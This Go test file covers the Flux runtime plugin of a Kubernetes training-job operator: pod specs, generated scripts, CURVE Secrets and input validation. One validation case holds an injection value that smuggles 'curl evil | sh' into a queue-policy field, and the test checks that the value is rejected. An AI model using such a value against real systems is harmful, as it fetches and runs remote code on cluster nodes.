package flux_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/apimachinery/pkg/util/validation/field"
	"k8s.io/utils/ptr"

	trainer "github.com/trainyard/trainyard/apis/trainer/v1alpha1"
	"github.com/trainyard/trainyard/pkg/plan"
	"github.com/trainyard/trainyard/pkg/runtime"
	"github.com/trainyard/trainyard/pkg/runtime/plugins"
	"github.com/trainyard/trainyard/pkg/runtime/plugins/flux"
	rtt "github.com/trainyard/trainyard/test/util/rtt"
)

func fluxRuntime() *rtt.RuntimeWrapper {
	return rtt.MakeRuntime(trainer.ClusterTrainingRuntimeKind, "flux-distributed").MLPolicy(&trainer.MLPolicy{
		NumNodes: ptr.To[int32](1), MLPolicySource: trainer.MLPolicySource{Flux: &trainer.FluxMLPolicySource{NumProcPerNode: ptr.To[int32](1)}},
	})
}

func build(t *testing.T, opts plugins.Options, job *trainer.TrainJob, rt *runtime.Runtime) *plan.Plan {
	t.Helper()
	fw, err := plugins.NewFramework(opts)
	if err != nil {
		t.Fatal(err)
	}
	p, err := fw.Build(runtime.TrainJobRequest(job), rt)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return p
}

func configMap(t *testing.T, p *plan.Plan) *corev1.ConfigMap {
	t.Helper()
	for _, c := range p.Children {
		if cm, ok := c.Object.(*corev1.ConfigMap); ok {
			if c.Rule != plan.RuleApply {
				t.Errorf("ConfigMap rule = %s, want Apply", c.Rule)
			}
			return cm
		}
	}
	t.Fatal("no ConfigMap in the plan")
	return nil
}

// TestPodSpec compares the whole node pod spec of a Flux TrainJob.
func TestPodSpec(t *testing.T) {
	job := rtt.MakeTrainJob("ns", "job").NumNodes(3).Command("trainjob").Args("trainjob").
		Env(rtt.Env("FLUX_VIEW_IMAGE", "view:user")).Obj()
	rt := fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
		ps.InitContainers = []corev1.Container{{Name: "setup", Image: "setup:1"}}
		ps.Containers[0].Env = []corev1.EnvVar{rtt.Env("FLUX_VIEW_IMAGE", "view:runtime"), rtt.Env("FLUX_QUEUE_POLICY", "easy")}
	}).Obj()
	p := build(t, plugins.Options{}, job, rt)
	js := p.JobSet()
	got := js.Spec.ReplicatedJobs[0].Template.Spec.Template.Spec
	entry := corev1.VolumeMount{Name: "job-flux-entrypoint", MountPath: "/etc/flux-config", ReadOnly: true}
	want := corev1.PodSpec{
		InitContainers: []corev1.Container{
			{Name: "setup", Image: "setup:1"},
			{
				Name: "flux-installer", Image: "view:user", Command: []string{"/bin/bash", "/etc/flux-config/init.sh"},
				VolumeMounts: []corev1.VolumeMount{{Name: "flux-install", MountPath: "/mnt/flux"}, entry},
			},
		},
		Containers: []corev1.Container{{
			Name:    "node",
			Image:   "trainer:latest",
			Command: []string{"/bin/bash", "/etc/flux-config/entrypoint.sh", "trainjob trainjob"},
			Env:     []corev1.EnvVar{rtt.Env("FLUX_VIEW_IMAGE", "view:user"), rtt.Env("FLUX_QUEUE_POLICY", "easy")},
			VolumeMounts: []corev1.VolumeMount{
				{Name: "flux-install", MountPath: "/mnt/flux"},
				{Name: "spack-install", MountPath: "/opt/software"},
				entry,
				{Name: "flux-curve", MountPath: "/curve", ReadOnly: true},
				{Name: "shared-memory", MountPath: "/dev/shm", ReadOnly: true},
			},
		}},
		Volumes: []corev1.Volume{
			{Name: "spack-install", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
			{Name: "flux-install", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
			{Name: "job-flux-entrypoint", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "job-flux-entrypoint"}, DefaultMode: ptr.To[int32](0o755)}}},
			{Name: "shared-memory", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: corev1.StorageMediumMemory}}},
			{Name: "flux-curve", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{
				SecretName: "job-flux-curve", DefaultMode: ptr.To[int32](0o400)}}},
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("node pod spec (-want +got):\n%s", diff)
	}
	if n := ptr.Deref(js.Spec.ReplicatedJobs[0].Template.Spec.Parallelism, 0); n != 3 {
		t.Errorf("parallelism = %d, want 3", n)
	}
	// The queue policy comes from the runtime's env, the network device is the default.
	broker := configMap(t, p).Data["init.sh"]
	for _, line := range []string{`queue-policy = "easy"`, `default_bind = "tcp://eth0:%p"`} {
		if !strings.Contains(broker, line+"\n") {
			t.Errorf("init.sh lacks %q", line)
		}
	}
}

func TestCommand(t *testing.T) {
	cases := map[string]struct {
		job      *trainer.TrainJob
		rt       *runtime.Runtime
		wantCmd  []string
		wantArgs []string
	}{
		"no trainer block: the runtime's command, its args kept": {
			job: rtt.MakeTrainJob("ns", "job").Obj(),
			rt: fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
				ps.Containers[0].Command = []string{"python3", " train.py "}
				ps.Containers[0].Args = []string{"--epochs=1"}
			}).Obj(),
			wantCmd:  []string{"/bin/bash", "/etc/flux-config/entrypoint.sh", "python3  train.py"},
			wantArgs: []string{"--epochs=1"},
		},
		"the TrainJob's args join the command; the runtime's args stay": {
			job: rtt.MakeTrainJob("ns", "job").Args("-n", "2").Obj(),
			rt: fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
				ps.Containers[0].Command = []string{"lmp"}
				ps.Containers[0].Args = []string{"-v"}
			}).Obj(),
			wantCmd:  []string{"/bin/bash", "/etc/flux-config/entrypoint.sh", "lmp -n 2"},
			wantArgs: []string{"-v"},
		},
		"no command at all: an empty command (a bare instance)": {
			job:     rtt.MakeTrainJob("ns", "job").Obj(),
			rt:      fluxRuntime().Obj(),
			wantCmd: []string{"/bin/bash", "/etc/flux-config/entrypoint.sh", ""},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			c := runtime.TrainerContainer(&build(t, plugins.Options{}, tc.job, tc.rt).JobSet().Spec)
			if diff := cmp.Diff(tc.wantCmd, c.Command); diff != "" {
				t.Errorf("command (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.wantArgs, c.Args); diff != "" {
				t.Errorf("args (-want +got):\n%s", diff)
			}
		})
	}
}

// TestScripts checks the lines of the scripts that carry the TrainJob's shape.
func TestScripts(t *testing.T) {
	cases := map[string]struct {
		job       *trainer.TrainJob
		rt        *runtime.Runtime
		opts      plugins.Options
		wantInit  []string
		wantEntry []string
	}{
		"one node, defaults, no trainer block": {
			job: rtt.MakeTrainJob("team", "job").Obj(),
			rt:  fluxRuntime().Obj(),
			wantInit: []string{
				"echo 'job-node-0-[0]' > \"$root/config/etc/flux/system/hostlist\"",
				`default_connect = "tcp://%h.job.team.svc.cluster.local:%p"`,
				`hosts = [{ host = "job-node-0-[0]" }]`,
				`queue-policy = "fcfs"`,
			},
			wantEntry: []string{
				`flux R encode --hosts='job-node-0-[0]' --cores=0-0 > "$root/config/etc/flux/system/R"`,
				`if [ "$(hostname)" = 'job-node-0-0' ]; then`,
				`  exec "${start[@]}" flux run -N 1 -n 1 $command`,
			},
		},
		"4 nodes, 2 tasks and 8 GPUs each, the manager's cluster domain, the user's network device": {
			job: rtt.MakeTrainJob("team", "big").NumNodes(4).NumProcPerNode(intstr.FromInt32(2)).
				ResourcesPerNode(rtt.Limits("nvidia.com/gpu", "8")).Env(rtt.Env("FLUX_NETWORK_DEVICE", "net1")).Obj(),
			rt:   fluxRuntime().Subdomain("fluxnet").Obj(),
			opts: plugins.Options{ClusterDomain: "corp.example"},
			wantInit: []string{
				"echo 'big-node-0-[0-3]' > \"$root/config/etc/flux/system/hostlist\"",
				`default_bind = "tcp://net1:%p"`,
				`default_connect = "tcp://%h.fluxnet.team.svc.corp.example:%p"`,
			},
			wantEntry: []string{
				`flux R encode --hosts='big-node-0-[0-3]' --cores=0-1 --gpu=0-7 > "$root/config/etc/flux/system/R"`,
				`  exec "${start[@]}" flux run -N 4 -n 8 -g 8 $command`,
			},
		},
		"runtime tasks when the TrainJob sets none": {
			job: rtt.MakeTrainJob("team", "job").Obj(),
			rt: fluxRuntime().MLPolicy(&trainer.MLPolicy{MLPolicySource: trainer.MLPolicySource{
				Flux: &trainer.FluxMLPolicySource{NumProcPerNode: ptr.To[int32](4)}}}).Obj(),
			wantEntry: []string{`flux R encode --hosts='job-node-0-[0]' --cores=0-3 > "$root/config/etc/flux/system/R"`},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			p := build(t, tc.opts, tc.job, tc.rt)
			cm := configMap(t, p)
			if cm.Name != tc.job.Name+"-flux-entrypoint" || cm.Namespace != "team" {
				t.Errorf("ConfigMap %s/%s", cm.Namespace, cm.Name)
			}
			for key, lines := range map[string][]string{"init.sh": tc.wantInit, "entrypoint.sh": tc.wantEntry} {
				// The scripts must at least parse.
				cmd := exec.Command("bash", "-n")
				cmd.Stdin = strings.NewReader(cm.Data[key])
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Errorf("bash -n %s: %v\n%s", key, err, out)
				}
				got := strings.Split(cm.Data[key], "\n")
				for _, l := range lines {
					if !contains(got, l) {
						t.Errorf("%s lacks the line %q:\n%s", key, l, cm.Data[key])
					}
				}
			}
		})
	}
}

func contains(lines []string, l string) bool {
	for _, x := range lines {
		if x == l {
			return true
		}
	}
	return false
}

// TestSecret: the plan's CURVE Secret is created once and carries no key:
// the same inputs build the same plan, and only BeforeCreate fills the Secret,
// with a new key pair each time, whatever the TrainJob.
func TestSecret(t *testing.T) {
	job := rtt.MakeTrainJob("ns", "job").Obj()
	job.UID = types.UID("2f8e0c1a-0000-4000-8000-000000000001")
	var children []plan.Child
	var plans []*plan.Plan
	for range 2 {
		p := build(t, plugins.Options{}, job.DeepCopy(), fluxRuntime().Obj())
		plans = append(plans, p)
		for _, c := range p.Children {
			if _, ok := c.Object.(*corev1.Secret); ok {
				children = append(children, c)
			}
		}
	}
	if len(children) != 2 {
		t.Fatalf("got %d Secrets, want one per plan", len(children))
	}
	if diff := cmp.Diff(plans[0].Objects(), plans[1].Objects()); diff != "" {
		t.Errorf("two builds of the same inputs differ (-first +second):\n%s", diff)
	}
	want := &corev1.Secret{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Secret"},
		ObjectMeta: metav1.ObjectMeta{Name: "job-flux-curve", Namespace: "ns"},
		Type:       corev1.SecretTypeOpaque,
	}
	for i, c := range children {
		if c.Rule != plan.RuleCreateOnce || c.BeforeCreate == nil {
			t.Errorf("Secret %d: rule %s, BeforeCreate set %v; want CreateOnce with BeforeCreate", i, c.Rule, c.BeforeCreate != nil)
		}
		if diff := cmp.Diff(want, c.Object); diff != "" {
			t.Errorf("Secret %d as built (no key material) (-want +got):\n%s", i, diff)
		}
	}

	// The same TrainJob's Secret, filled twice: two different certificates,
	// each only in curve.cert.
	var certs []string
	for _, c := range children {
		s := c.Object.DeepCopyObject().(*corev1.Secret)
		if c.BeforeCreate != nil {
			if err := c.BeforeCreate(s); err != nil {
				t.Fatal(err)
			}
		}
		if len(s.Data) != 1 || !strings.Contains(string(s.Data["curve.cert"]), "metadata\n    name = \"job\"\n") {
			t.Fatalf("filled Secret: %+v", s.Data)
		}
		certs = append(certs, string(s.Data["curve.cert"]))
	}
	if certs[0] == certs[1] {
		t.Error("the same TrainJob got the same CURVE certificate twice: the key is a function of the TrainJob")
	}
	if children[0].BeforeCreate != nil && children[0].BeforeCreate(&corev1.ConfigMap{}) == nil {
		t.Error("BeforeCreate on a ConfigMap: no error")
	}
}

func TestValidate(t *testing.T) {
	path := field.NewPath("spec", "trainer")
	cases := map[string]struct {
		job  *trainer.TrainJob
		rt   *runtime.Runtime
		want field.ErrorList
	}{
		"valid": {
			job: rtt.MakeTrainJob("ns", "job").NumProcPerNode(intstr.FromInt32(2)).Obj(),
			rt:  fluxRuntime().Obj(),
		},
		"numProcPerNode 0": {
			job:  rtt.MakeTrainJob("ns", "job").NumProcPerNode(intstr.FromInt32(0)).Obj(),
			rt:   fluxRuntime().Obj(),
			want: field.ErrorList{field.Invalid(path.Child("numProcPerNode"), int32(0), "must be greater than or equal to 1 for Flux TrainJob")},
		},
		"numProcPerNode auto": {
			job:  rtt.MakeTrainJob("ns", "job").NumProcPerNode(intstr.FromString("auto")).Obj(),
			rt:   fluxRuntime().Obj(),
			want: field.ErrorList{field.Invalid(path.Child("numProcPerNode"), "auto", "must be an integer for Flux TrainJob")},
		},
		"the runtime has its own flux-installer": {
			job: rtt.MakeTrainJob("ns", "job").Obj(),
			rt: fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
				ps.InitContainers = []corev1.Container{{Name: "flux-installer", Image: "x"}}
			}).Obj(),
			want: field.ErrorList{field.Invalid(path.Child("initContainers"), "flux-installer", "InitContainer 'flux-installer' is reserved")},
		},
		"a name too long for the entrypoint volume": {
			job: rtt.MakeTrainJob("ns", strings.Repeat("a", 48)).Obj(),
			rt:  fluxRuntime().Obj(),
			want: field.ErrorList{field.Invalid(field.NewPath("metadata", "name"), strings.Repeat("a", 48),
				"must be no more than 47 characters on a Flux runtime: the volume "+strings.Repeat("a", 48)+"-flux-entrypoint must fit in 63 characters")},
		},
		"a queue policy that would leave the broker's TOML": {
			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_VIEW_IMAGE", "v"), rtt.Env("FLUX_QUEUE_POLICY", "fcfs\"\nTOML\ncurl evil | sh #")).Obj(),
			rt:  fluxRuntime().Obj(),
			want: field.ErrorList{field.Invalid(path.Child("env").Index(1).Child("value"), "fcfs\"\nTOML\ncurl evil | sh #",
				"FLUX_QUEUE_POLICY must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration")},
		},
		"a network device with a quote": {
			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_NETWORK_DEVICE", "eth0:%p\"")).Obj(),
			rt:  fluxRuntime().Obj(),
			want: field.ErrorList{field.Invalid(path.Child("env").Index(0).Child("value"), "eth0:%p\"",
				"FLUX_NETWORK_DEVICE must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration")},
		},
		"the runtime's network device, empty": {
			job: rtt.MakeTrainJob("ns", "job").Obj(),
			rt: fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
				ps.Containers[0].Env = []corev1.EnvVar{rtt.Env("FLUX_NETWORK_DEVICE", "")}
			}).Obj(),
			want: field.ErrorList{field.Invalid(field.NewPath("spec", "runtimeRef"), "flux-distributed",
				`the runtime's FLUX_NETWORK_DEVICE "": FLUX_NETWORK_DEVICE must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration`)},
		},
		"usual settings": {
			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_QUEUE_POLICY", "easy"), rtt.Env("FLUX_NETWORK_DEVICE", "bond0.100")).Obj(),
			rt:  fluxRuntime().Obj(),
		},
		"no node job": {
			job: rtt.MakeTrainJob("ns", "job").Obj(),
			rt: fluxRuntime().ReplicatedJobs(
				rtt.MakeReplicatedJob("worker", "trainer", rtt.MakeContainer("node", "x")),
			).Obj(),
			want: field.ErrorList{field.Invalid(field.NewPath("spec", "runtimeRef"), "flux-distributed",
				`flux runtime ClusterTrainingRuntime "flux-distributed" has no replicated job "node" with a "node" container`)},
		},
	}
	fw, err := plugins.NewFramework()
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, fw.Validate(tc.rt, runtime.TrainJobRequest(tc.job))); diff != "" {
				t.Errorf("Validate (-want +got):\n%s", diff)
			}
			_, err := fw.Build(runtime.TrainJobRequest(tc.job), tc.rt)
			if diff := cmp.Diff(rtt.FieldErrs(tc.want), rtt.FieldErrsOf(err)); diff != "" {
				t.Errorf("Build errors (-want +got):\n%s", diff)
			}
		})
	}
	if got := (&flux.Flux{}).Name(); got != "Flux" {
		t.Errorf("Name() = %q", got)
	}
}
